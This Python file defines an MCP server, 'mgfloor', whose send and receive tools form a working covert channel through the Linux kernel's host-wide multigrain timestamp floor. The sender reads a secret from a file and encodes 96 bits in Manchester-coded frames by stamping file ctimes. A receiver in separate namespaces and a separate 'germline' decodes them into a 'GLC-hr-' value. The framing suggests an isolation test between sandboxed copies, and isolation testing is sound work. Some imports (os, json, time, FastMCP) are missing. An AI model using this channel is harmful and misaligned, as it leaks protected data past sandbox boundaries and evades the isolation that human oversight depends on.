# Kernel channel "mgfloor": the multigrain timestamp floor (kernel/time/timekeeping.c,
# `mg_floor`, Linux 6.13+). File systems marked FS_MGTIME (tmpfs, hence every copy's
# scratch and every memfd; ext4, xfs, btrfs) stamp an inode whose times were queried by
# `stat` with a *fine-grained* clock reading when the coarse (per-tick) clock has not moved
# past its ctime, and that reading is published in one host-wide 64-bit variable, the
# floor. Every later coarse stamp on any multigrain inode of the host is max(coarse tick
# time, floor). So:
#   - a writer moves the floor by `pwrite` + `fstat` on a file of its own (its own scratch
#     tmpfs, or a memfd), and
#   - a reader sees it by writing a file of its own whose times it has not queried since
#     the last tick, then `fstat`: the ctime is the floor (a few microseconds old) when
#     someone took a fine stamp this tick, else the coarse tick time (0.6-4.6 ms old here).
# Nothing is shared but the kernel variable: different germlines, user, PID, mount and
# network namespaces, host uids; no timing measurement, the value is read exactly.
#
# `send` (holds the item) writes frames on the host's CLOCK_REALTIME (libc, not the
# twin): a frame of FRAME ns is "1" when it stamps throughout it, "0" when it sleeps. The
# 96 bits go Manchester-coded after a preamble of eight 1s and a 0 0. `receive` (public
# consumer, another germline, another release) records per frame the fraction of its
# reads that were fresh (< 1 ms behind CLOCK_REALTIME) floor values, then decodes. A read
# that got the tick's own time is no floor value. Its age is timing: it tells how the
# receiver's reads fell against the ticks, as reading CLOCK_REALTIME_COARSE does. The
# receiver reports both series per frame for the test to compare: `tr` (the ages of tick
# stamps) and `cr` (the coarse clock's own).
import ctypes

_libc = ctypes.CDLL(None)
FRAME = 20_000_000
MODE = "scratch"  # or "memfd": no file system needed at all
RING = 600
REUSE = 16_000_000
FRESH = 1_000_000


def _clk(c):
    ts = (ctypes.c_long * 2)()
    _libc.clock_gettime(c, ts)
    return ts[0] * 1_000_000_000 + ts[1]


def _bits(secret):
    x = int(secret.strip()[-24:], 16)
    return [(x >> (95 - i)) & 1 for i in range(96)]


PASSES = 5
ALIGN = 64  # the sender starts on a frame number that is a multiple of ALIGN
SIG_P = 100_000  # the sender stamps only while CLOCK_REALTIME % SIG_P < SIG_W: a signature
SIG_W = 20_000


def _pass(bits):
    out = [1] * 8 + [0, 0]
    for b in bits:
        out += [1, 0] if b else [0, 1]
    return out


def _frames(bits):
    return _pass(bits) * PASSES + [0, 0]


def _own(tag):
    if MODE == "memfd":
        return os.memfd_create(tag)
    import tempfile
    fd, path = tempfile.mkstemp(prefix=tag)
    return fd


def _decode(fr, f0):
    # The sender starts on a frame number that is a multiple of ALIGN; pick the one whose
    # PASSES preambles (eight 1s, then 0 0) score best, then read each bit as the sum over
    # passes of (first frame - second frame) of its Manchester pair.
    plen = 10 + 192
    best, p = None, -1
    for j in range(len(fr) - PASSES * plen):
        if (f0 + j) % ALIGN:
            continue
        sc = sum(sum(fr[j + k * plen:j + k * plen + 8]) - 4 * sum(fr[j + k * plen + 8:j + k * plen + 10])
                 for k in range(PASSES))
        if best is None or sc > best:
            best, p = sc, j
    bits = ""
    if p >= 0:
        for i in range(96):
            d = sum(fr[p + k * plen + 10 + 2 * i] - fr[p + k * plen + 11 + 2 * i] for k in range(PASSES))
            bits += "1" if d > 0 else "0"
    return bits, p


def create_server():
    m = FastMCP("mgfloor")

    @m.tool()
    def send(document: str) -> str:
        frames = _frames(_bits(open(document).read()))
        f = _own("s")
        os.write(f, b"x")
        # Whether this file takes fine-grained stamps (a multigrain file system: tmpfs, or
        # a memfd): 50 stamps in well under a tick are then nearly all different; on ramfs
        # they share the tick's coarse time.
        seen = set()
        for _ in range(50):
            os.pwrite(f, b"x", 0)
            seen.add(os.fstat(f).st_ctime_ns)
        fine = len(seen) > 10
        start = ((_clk(0) // FRAME + 2) // ALIGN + 1) * ALIGN * FRAME
        stamps = 0
        for i, b in enumerate(frames):
            t0 = start + i * FRAME
            while _clk(0) < t0:
                time.sleep(0.0005) if t0 - _clk(0) > 2_000_000 else None
            if b:
                end = t0 + FRAME * 9 // 10
                while _clk(0) < end:
                    if _clk(0) % SIG_P < SIG_W:
                        os.pwrite(f, b"x", 0)
                        os.fstat(f)
                        stamps += 1
        return json.dumps({"frames": len(frames), "stamps": stamps, "fine": fine, "start": start // FRAME})

    @m.tool()
    def receive(seconds: float) -> str:
        ring = [_own("r%d" % k) for k in range(RING)]
        for fd in ring:
            os.write(fd, b"y")
        last = [0] * RING
        k = 0
        start = (_clk(0) // FRAME + 1) * FRAME
        nframes = int(seconds * 1e9 / FRAME)
        fr, tr, cr = [], [], []
        for i in range(nframes):
            t0 = start + i * FRAME
            while _clk(0) < t0 + FRAME // 5:
                pass
            fresh = n = ticks = tfresh = cfresh = 0
            while True:
                now = _clk(0)
                if now >= t0 + FRAME * 4 // 5:
                    break
                if now - last[k] < REUSE:
                    continue
                last[k] = now
                c = _clk(5)
                cfresh += _clk(0) - c < FRESH
                os.pwrite(ring[k], b"y", 0)
                v = os.fstat(ring[k]).st_ctime_ns
                r = _clk(0)
                c2 = _clk(5)
                k = (k + 1) % RING
                n += 1
                # A stamp above the coarse clock (its value before the write, and after it
                # when a tick came between) is the floor. A stamp the coarse clock gave
                # is only the tick's time: how old it looks when read says when this copy
                # ran, as CLOCK_REALTIME_COARSE itself does (`cr`), which is timing.
                if v > c and v != c2:
                    fresh += r - v < FRESH and v % SIG_P < SIG_W + 5_000
                else:
                    ticks += 1
                    tfresh += r - v < FRESH
            fr.append(round(fresh / n, 2) if n else -1)
            tr.append(round(tfresh / ticks, 3) if ticks else -1)
            cr.append(round(cfresh / n, 3) if n else -1)
        bits, p = _decode(fr, start // FRAME)
        got = "GLC-hr-%024x" % int(bits, 2) if len(bits) == 96 else ""
        return json.dumps({"bits": bits, "got": got, "p": p, "p_start": start // FRAME, "fr": fr, "tr": tr, "cr": cr})

    return m
